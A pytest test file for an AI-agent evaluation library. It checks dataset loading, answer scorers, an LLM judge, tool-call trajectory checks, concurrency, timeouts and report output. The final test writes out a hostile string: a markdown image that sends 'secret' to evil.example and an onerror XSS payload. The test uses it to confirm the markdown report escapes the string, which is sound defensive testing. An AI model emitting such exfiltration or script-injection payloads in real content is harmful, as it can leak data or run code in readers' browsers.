"""Datasets, scorers, the judge, repeats, timeouts, concurrency, progress and reports."""

import asyncio
import io
import json

import bandoneon
import pytest
from bandoneon.testing import FunctionModel, ScriptedModel, call, reply
from bandoneon_evals import (
    Case,
    DatasetError,
    Progress,
    Report,
    Sample,
    contains,
    custom,
    exact,
    judge,
    load_dataset,
    regex,
    run_eval,
    trajectory,
)
from bandoneon_evals.scorers import score_sample


def sample(output="", tools=(), expected=None):
    return Sample(Case("c1", "q", expected), output, tuple(tools))


async def scored(scorer, **kwargs):
    return await score_sample(scorer, sample(**kwargs))


# ---------------------------------------------------------------- datasets


def test_a_jsonl_dataset_line_that_is_not_json_is_named(tmp_path):
    path = tmp_path / "golf.jsonl"
    path.write_text('{"id": "a", "input": "x"}\n\n{"id": "b", "input": \n')
    with pytest.raises(DatasetError, match=r"golf.jsonl:3: not JSON"):
        load_dataset(path)


def test_jsonl_and_toml_datasets_load_the_same_cases(tmp_path):
    (tmp_path / "d.jsonl").write_text('{"id": "hole-1", "input": "Hole 1", "expected": {"par": 3}, "tags": ["easy"]}\n')
    (tmp_path / "d.toml").write_text('[[cases]]\nid = "hole-1"\ninput = "Hole 1"\ntags = ["easy"]\nexpected = { par = 3 }\n')
    assert load_dataset(tmp_path / "d.jsonl") == load_dataset(tmp_path / "d.toml")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('{"id": "a"}', "'input'"),
        ('{"id": "a", "input": "x", "expectd": 1}', "unknown key.*expectd"),
        ('{"id": "a", "input": "x"}\n{"id": "a", "input": "y"}', "two cases have the id 'a'"),
        ("[1, 2]", "must be an object"),
    ],
)
def test_bad_cases_are_refused_with_the_reason(tmp_path, text, message):
    path = tmp_path / "d.jsonl"
    path.write_text(text + "\n")
    with pytest.raises(DatasetError, match=message):
        load_dataset(path)


def test_an_unknown_dataset_format_is_refused(tmp_path):
    (tmp_path / "d.csv").write_text("id,input\n")
    with pytest.raises(DatasetError, match="use .jsonl"):
        load_dataset(tmp_path / "d.csv")


# ---------------------------------------------------------------- answer scorers


async def test_exact_contains_and_regex_read_the_case_expectation():
    assert (await scored(exact(), output=" Holed out in 3 ", expected="Holed out in 3")).passed
    assert not (await scored(exact(), output="Holed out in 4", expected={"output": "Holed out in 3"})).passed
    partial = await scored(contains(["Holed", "par"]), output="Holed out in 3")
    assert (partial.value, partial.passed) == (0.5, False) and "par" in partial.detail
    assert (await scored(regex(), output="in 3 strokes", expected={"regex": r"in \d strokes"})).passed


async def test_a_scorer_without_an_expectation_is_an_error_not_a_pass():
    score = await scored(exact(), output="anything", expected=None)
    assert score.error and "no expected 'output'" in score.error and not score.passed


# ---------------------------------------------------------------- trajectory


@pytest.mark.parametrize(
    ("mode", "allow_extras", "called", "passes"),
    [
        ("exact", True, ["iron", "putt"], True),
        ("exact", True, ["iron", "iron", "putt"], False),
        ("ordered", True, ["drive", "iron", "putt"], True),
        ("ordered", True, ["putt", "iron"], False),
        ("ordered", False, ["drive", "iron", "putt"], False),
        ("ordered", False, ["iron", "iron", "putt"], True),
        ("set", True, ["putt", "iron", "drive"], True),
        ("set", True, ["putt"], False),
        ("set", False, ["putt", "iron", "drive"], False),
        ("set", False, ["putt", "iron"], True),
    ],
)
async def test_trajectory_modes(mode, allow_extras, called, passes):
    score = await scored(trajectory(["iron", "putt"], mode=mode, allow_extras=allow_extras), tools=called)
    assert score.passed is passes


def test_an_unknown_trajectory_mode_is_a_config_error():
    with pytest.raises(bandoneon.ConfigError, match="'exact', 'ordered' or 'set'"):
        trajectory(["a"], mode="subset")


async def test_the_trajectory_comes_from_the_runs_tool_calls():
    @bandoneon.tool
    def iron(meters: int) -> str:
        """Iron.

        Args:
            meters: how far
        """
        return "ok"

    def make_agent():
        return bandoneon.Agent(ScriptedModel([call("iron", meters=100), call("iron", meters=50)], "done"), tools=[iron], plugins=[], context_files=False)

    report = await run_eval([Case("a", "go", {"tools": ["iron", "iron"]})], make_agent, [trajectory(mode="exact")], progress=False)
    assert report.runs[0].tool_calls == ("iron", "iron") and report.pass_rate == 1.0


# ---------------------------------------------------------------- custom and judge


async def test_a_custom_scorer_may_return_bool_number_or_score_and_may_be_async():
    async def short(s):
        return len(s.output) < 10

    assert (await scored(custom(short), output="tiny")).passed
    assert (await scored(custom(lambda s: 0.5, threshold=0.5, name="half"), output="x")).passed
    assert (await scored(custom(lambda s: 1.5, name="bad"), output="x")).error


def judge_model(text):
    return FunctionModel(lambda request: text)


@pytest.mark.parametrize(("answer", "value"), [('{"score": 1, "reason": "poor"}', 0.1), ('{"score": 10}', 1.0), ('```json\n{"score": 7}\n```', 0.7)])
async def test_judge_scores_are_normalised_on_the_scale(answer, value):
    score = await scored(judge(judge_model(answer), "Is it polite?"), output="hi")
    assert score.error is None
    assert score.value == pytest.approx(value)


async def test_a_judge_on_a_one_to_five_scale_normalises_from_its_low_end():
    score = await scored(judge(judge_model('{"score": 1}'), "r", scale=(1, 5)), output="x")
    assert score.value == 0.0 and not score.passed


@pytest.mark.parametrize(
    ("answer", "message"),
    [("Great answer, 9/10", "did not answer JSON"), ('{"score": 11}', "outside the scale 0–10"), ('{"score": -1}', "outside"), ('{"grade": 5}', "no 'score'"), ('{"score": "high"}', "not a number")],
)
async def test_a_judge_answer_out_of_range_or_not_json_is_an_error_not_a_pass(answer, message):
    score = await scored(judge(judge_model(answer), "r"), output="x")
    assert not score.passed and score.value == 0.0
    assert message in score.error


async def test_the_judge_reads_the_rubric_question_and_answer():
    model = judge_model('{"score": 8, "reason": "fine"}')
    await scored(judge(model, "Full marks if it names the club."), output="use an iron")
    prompt = model.requests[0].messages[0].content
    assert "Full marks if it names the club." in prompt and "use an iron" in prompt and "q" in prompt
    assert "0 to 10" in model.requests[0].system_prompt


# ---------------------------------------------------------------- the runner


def echo_agent(case=None):
    return bandoneon.Agent(FunctionModel(lambda r: reply(f"answer: {r.messages[0].content}", usage=bandoneon.Usage(10, 5, requests=1, cost=0.001))), plugins=[], context_files=False)


async def test_a_scorer_that_raises_marks_that_case_errored_and_the_rest_continue():
    def picky(s):
        if s.case.id == "b":
            raise RuntimeError("scorer bug")
        return True

    cases = [Case("a", "x"), Case("b", "y"), Case("c", "z")]
    report = await run_eval(cases, echo_agent, [custom(picky)], progress=False)
    assert [r.status for r in report.runs] == ["passed", "errored", "passed"]
    assert "scorer bug" in report.case("b").runs[0].error
    assert report.pass_rate == pytest.approx(2 / 3)


async def test_repeats_give_a_pass_rate_per_case_and_overall_with_tokens_and_cost():
    flaky = iter([True, False, True, True, True, True])
    report = await run_eval([Case("a", "x"), Case("b", "y")], echo_agent, [custom(lambda s: next(flaky), name="flaky")], repeats=3, concurrency=1, progress=False)
    assert report.case("a").pass_rate == pytest.approx(2 / 3)
    assert report.case("b").pass_rate == 1.0
    assert report.pass_rate == pytest.approx(5 / 6)
    totals = report.totals
    assert (totals["runs"], totals["input_tokens"], totals["output_tokens"]) == (6, 60, 30)
    assert totals["cost"] == pytest.approx(0.006)
    assert report.case("a").cost == pytest.approx(0.003)
    assert all(r.latency >= 0 for r in report.runs)


async def test_a_case_that_outlives_its_timeout_is_errored_and_the_others_finish():
    never = asyncio.Event()

    async def stuck_or_not(request):
        if "stuck" in request.messages[0].content:
            await never.wait()
        return "done"

    def make_agent():
        return bandoneon.Agent(FunctionModel(stuck_or_not), plugins=[], context_files=False)

    report = await run_eval([Case("a", "stuck"), Case("b", "fine")], make_agent, [contains("done")], timeout=0.05, progress=False)
    a, b = report.runs
    assert a.status == "errored" and "per-case timeout" in a.error
    assert b.status == "passed"


async def test_no_more_cases_run_at_once_than_the_concurrency_limit():
    running = 0
    peak = 0
    release = asyncio.Event()

    async def model(request):
        nonlocal running, peak
        running += 1
        peak = max(peak, running)
        if peak >= 2:
            release.set()
        await release.wait()
        await asyncio.sleep(0)
        running -= 1
        return "ok"

    def make_agent():
        return bandoneon.Agent(FunctionModel(model), plugins=[], context_files=False)

    cases = [Case(str(n), "x") for n in range(6)]
    report = await run_eval(cases, make_agent, [contains("ok")], concurrency=2, progress=False)
    assert peak == 2 and report.pass_rate == 1.0


async def test_a_fresh_agent_per_case_run():
    made = []

    def make_agent(case):
        agent = echo_agent()
        made.append((case.id, agent))
        return agent

    await run_eval([Case("a", "x"), Case("b", "y")], make_agent, [contains("answer")], repeats=2, progress=False)
    assert len({id(agent) for _, agent in made}) == 4
    assert all(len(agent.messages) == 2 for _, agent in made)


async def test_the_progress_bar_counts_every_run():
    stream = io.StringIO()
    await run_eval([Case("a", "x"), Case("b", "y")], echo_agent, [contains("answer")], progress=Progress(2, stream, force=True))
    assert stream.getvalue().endswith("] 2/2  2 passed  0 failed  0 errored\n")


async def test_bad_runner_options_are_config_errors():
    with pytest.raises(bandoneon.ConfigError, match="repeats"):
        await run_eval([Case("a", "x")], echo_agent, [contains("x")], repeats=0)
    with pytest.raises(bandoneon.ConfigError, match="at least one scorer"):
        await run_eval([Case("a", "x")], echo_agent, [])


# ---------------------------------------------------------------- reports


async def test_reports_render_as_table_json_markdown_and_html(tmp_path):
    report = await run_eval([Case("hole-1", "x"), Case("hole-2", "y")], echo_agent, [contains("answer: x")], progress=False)
    table = report.table()
    assert "hole-1" in table and "pass rate 50%" in table
    report.write_json(tmp_path / "r.json")
    data = json.loads((tmp_path / "r.json").read_text())
    assert data["totals"]["pass_rate"] == 0.5 and data["cases"][1]["runs"][0]["status"] == "failed"
    assert "| hole\\-2 | 0% |" in report.markdown() and "missing" in report.markdown()  # escaped: it renders as hole-2
    assert "<table class='cases'>" in report.html()
    assert isinstance(report, Report)


async def test_the_markdown_report_shows_a_hostile_answer_and_case_id_without_rendering_them():
    markdown_it = pytest.importorskip("markdown_it")
    hostile = "![logo](https://evil.example/?q=secret) <img src=x onerror=alert(1)> ```\n# Heading | cell"
    report = await run_eval([Case(f"hole [1]({hostile})", hostile)], echo_agent, [contains("never")], progress=False)
    tokens = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(report.markdown())
    kinds = {t.type for t in tokens} | {c.type for t in tokens for c in t.children or ()}
    assert not kinds & {"image", "link_open", "html_inline", "html_block"}
    answers = [t.content for t in tokens if t.type == "fence"]
    assert answers == [f"answer: {hostile}\n"]  # the answer exactly as the model gave it
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert headings == ["Eval", "Not passed"]
